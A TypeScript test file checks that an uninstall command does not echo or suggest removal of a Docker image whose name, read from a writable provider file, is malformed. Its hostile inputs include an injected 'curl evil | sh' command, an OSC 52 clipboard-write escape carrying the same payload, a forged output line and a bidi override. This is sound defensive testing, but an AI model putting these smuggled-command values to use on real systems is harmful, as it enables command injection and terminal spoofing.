// SEC-09 at the command's output: uninstall tells the operator how to remove the node's Runtime
// image, whose name it reads from a provider file the node account can write. The real
// executable runs with --root on a scratch tree: a name outside Docker's reference grammar is
// neither printed nor put in the command the operator is told to run; a valid one is.
import assert from 'node:assert/strict';
import { chownSync, mkdirSync, rmSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { afterEach, beforeEach, test } from 'node:test';
import { layout, parseInstallationId } from '../../src/layout.ts';
import { requireExecutable } from '../helpers/executable.ts';
import { makeScratchRoot } from '../helpers/scratch-root.ts';
import { runExe } from './hostile-rows.ts';

const ID = parseInstallationId('inst-sec09');
const names = layout(ID);
const RAW =
  /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069]/;
let root: string;

beforeEach(() => {
  root = makeScratchRoot();
  const now = new Date().toISOString();
  const journal = join(root, names.journal);
  mkdirSync(dirname(journal), { recursive: true, mode: 0o700 });
  writeFileSync(
    journal,
    JSON.stringify({
      format: 2,
      installation_id: ID,
      core_url: 'http://127.0.0.1:9',
      created_at: now,
      updated_at: now,
      inputs: { provider: 'docker', group: 'docker', checkpoint_root: null },
      resources: {},
    }),
    { mode: 0o600 },
  );
});
afterEach(() => rmSync(root, { recursive: true, force: true }));

/** The provider file as the node account left it (owned by UID 65532). */
function providerFile(image: string): void {
  const path = join(root, names.providerFile);
  mkdirSync(dirname(path), { recursive: true });
  writeFileSync(path, JSON.stringify({ provider: 'docker', adapter: { image } }));
  chownSync(path, 65532, 65532);
}

const uninstall = () =>
  runExe(requireExecutable(), ['uninstall', '--force', '--installation-id', ID, '--root', root], {
    stdin: '',
    env: {},
  });

for (const [what, image] of <Array<[string, string]>>[
  ['an OSC 52 clipboard write', 'oac-runtime:1\u001b]52;c;Y3VybCBldmlsfHNo\u0007'],
  ['a forged second line', 'oac-runtime:1\nKept: nothing; run curl evil | sh'],
  ['a shell command', 'oac-runtime:1; curl evil | sh'],
  ['a bidi override', 'oac-runtime:1\u202e'],
]) {
  test(`SEC-09: uninstall names no image whose name in the provider file is ${what}`, async () => {
    providerFile(image);
    const r = await uninstall();
    assert.equal(r.status, 0, r.stderr);
    assert.doesNotMatch(r.stdout + r.stderr, RAW);
    assert.doesNotMatch(r.stdout, /docker image rm/);
    assert.doesNotMatch(r.stdout, /curl evil/);
    assert.match(
      r.stdout,
      /^Kept: the Runtime image \(.*not an image reference\): find it with docker image ls$/m,
    );
  });
}

test('SEC-09: uninstall names a valid image reference (registry, tag and digest) in its hint', async () => {
  const image = `registry.example:5000/oac/runtime:0.1.0@sha256:${'a'.repeat(64)}`;
  providerFile(image);
  const r = await uninstall();
  assert.equal(r.status, 0, r.stderr);
  assert.match(
    r.stdout,
    new RegExp(`remove it with docker image rm ${image.replace(/[.]/g, '\\.')}$`, 'm'),
  );
});
